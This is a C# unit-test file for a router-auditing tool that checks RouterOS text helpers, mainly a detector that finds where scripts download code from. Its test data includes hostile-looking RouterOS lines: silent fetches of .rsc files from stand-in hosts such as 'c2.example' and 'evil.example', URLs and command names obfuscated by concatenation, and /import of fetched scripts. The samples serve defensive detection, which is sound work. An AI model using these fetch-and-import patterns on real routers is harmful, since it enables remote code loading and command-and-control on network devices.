using System.Security.Cryptography;
using System.Text;
using FlaxGuard.Engine.Probes.RouterOs;

namespace FlaxGuard.Engine.Tests.RouterOs;

[TestClass]
public sealed class RouterOsTextTests
{
    [TestMethod]
    [DataRow("true", 1)]
    [DataRow(" YES ", 1)]
    [DataRow("False", 0)]
    [DataRow("no", 0)]
    [DataRow("", -1)]
    [DataRow("1", -1)]
    [DataRow("truee", -1)]
    public void Flag_AcceptsBothRouterOsSpellings(string raw, int expected)
    {
        Assert.AreEqual(expected, RouterOsText.Flag(raw));
    }

    [TestMethod]
    [DataRow("7.14.3 (stable)", "7.14.3", "stable")]
    [DataRow("7.20.8 (long-term)", "7.20.8", "long-term")]
    [DataRow("7.1beta4 (development)", "7.1beta4", "development")]
    [DataRow("  7.16rc2   (Testing) ", "7.16rc2", "testing")]
    [DataRow("6.49.10", "6.49.10", null)]
    [DataRow("7.15 ()", "7.15", null)]
    public void SplitVersion_DropsTheChannel(string raw, string version, string? channel)
    {
        Assert.AreEqual(version, RouterOsText.SplitVersion(raw, out var actualChannel));
        Assert.AreEqual(channel, actualChannel);
    }

    [TestMethod]
    [DataRow("")]
    [DataRow("stable")]
    [DataRow("(stable) 7.1")]
    [DataRow("7 14 3")]
    public void SplitVersion_RefusesWhatIsNoVersion(string raw)
    {
        Assert.IsNull(RouterOsText.SplitVersion(raw, out _));
    }

    [TestMethod]
    public void NormalizeList_SortsTrimsLowersAndDeduplicates()
    {
        CollectionAssert.AreEqual(new[] { "100.64.88.0/24", "fd00:64:88::/64" }, RouterOsText.NormalizeList(" FD00:64:88::/64 , 100.64.88.0/24,,100.64.88.0/24 "));
        Assert.IsEmpty(RouterOsText.NormalizeList(""));
        Assert.IsEmpty(RouterOsText.NormalizeList(" , "));
        Assert.IsEmpty(RouterOsText.NormalizeList(null));
        Assert.AreEqual("a,b,c", RouterOsText.JoinList(RouterOsText.NormalizeList("c,a,B")));
    }

    [TestMethod]
    public void ScriptDigest_IsSha256OfCollapsedText_ComparedWithDotNet()
    {
        const string script = "  /system backup save name=nightly \r\n\t/export file=nightly  \r\n";
        var expected = Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes("/system backup save name=nightly /export file=nightly")))[..16];
        Assert.AreEqual(expected, RouterOsText.ScriptDigest(script));
        Assert.AreEqual(expected, RouterOsText.ScriptDigest("/system backup save name=nightly\n/export file=nightly"));
        Assert.AreNotEqual(expected, RouterOsText.ScriptDigest("/system backup save name=nightly\n/export file=other"));
        var unicode = "/log info \"Grüße 🚀\"";
        Assert.AreEqual(Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(unicode)))[..16], RouterOsText.ScriptDigest(unicode));
    }

    [TestMethod]
    [DataRow(":do { /tool fetch url=\"http://203.0.113.66/u.rsc\" dst-path=u.rsc } on-error={}", "203.0.113.66")]
    [DataRow("/tool/fetch url=https://Evil.Example:8443/x keep-result=no", "evil.example")]
    [DataRow("/tool fetch url=(\"http://user:pw@198.51.100.9/\" . $x)", "198.51.100.9")]
    [DataRow("/tool fetch url=\"https://[2001:db8::66]:443/a\"", "[2001:db8::66]")]
    [DataRow("/tool fetch url=$target", "unknown")]
    [DataRow(":local u \"http://\"; /tool fetch url=($u . $h)", "unknown")]
    [DataRow("[/tool fetch url=http://c2.example]", "c2.example")]
    [DataRow("/system backup save name=nightly", null)]
    [DataRow("/log info \"fetching nothing\"", null)]
    // Issue 13 part 5: pieces joined with '.', URLs kept in variables, commands built at run time, imported files.
    [DataRow(":local u (\"ht\" . \"tp:/\" . \"/evil\" . \".example/a\"); /tool fetch url=$u", "evil.example")]
    [DataRow(":local c (\"/tool/fe\".\"tch\"); [:parse \"$c url=$u\"]", "unknown")]
    [DataRow("/tool fetch mode=ftp address=198.51.100.7 src-path=x.rsc", "198.51.100.7")]
    [DataRow("/import file-name=flash/upd.rsc", "import:flash/upd.rsc")]
    [DataRow(":delay 5s; /import \"x y.rsc\" verbose=yes", "import:x y.rsc")]
    [DataRow("/import verbose=yes file=a.rsc", "import:a.rsc")]
    [DataRow("/log info \"important\"", null)]
    public void FetchHost_FindsWhereAScriptDownloadsFrom(string script, string? host)
    {
        Assert.AreEqual(host, RouterOsText.FetchHost(script));
    }

    [TestMethod]
    [DataRow("backup-config", "backup-config", true)]
    [DataRow("/system script run backup-config", "backup-config", true)]
    [DataRow("/system/script/run backup-config;", "backup-config", true)]
    [DataRow("[/system script run \"sys-update\"]", "sys-update", true)]
    [DataRow("/system script run backup-config-old", "backup-config", false)]
    [DataRow("/log info backup-config", "backup-config", false)]
    [DataRow("", "backup-config", false)]
    public void RunsScript_RecognisesTheWaysASchedulerRunsAScript(string onEvent, string script, bool runs)
    {
        Assert.AreEqual(runs, RouterOsText.RunsScript(onEvent, script));
    }

    [TestMethod]
    public void Find_IsOrdinal()
    {
        Assert.AreEqual(2, RouterOsText.Find("a\u0000bc", "bc", 0));
        Assert.AreEqual(-1, RouterOsText.Find("ABC", "abc", 0));
        Assert.AreEqual(3, RouterOsText.Find("abcabc", "abc", 1));
    }

    [TestMethod]
    public void JoinLiterals_JoinsOnlyPiecesJoinedWithADot()
    {
        Assert.AreEqual("\"http://x\"", RouterOsText.JoinLiterals("\"ht\" . \"tp://x\""));
        Assert.AreEqual("\"a\" \"b\"", RouterOsText.JoinLiterals("\"a\" \"b\""));
        Assert.AreEqual("no quotes", RouterOsText.JoinLiterals("no quotes"));
    }
}
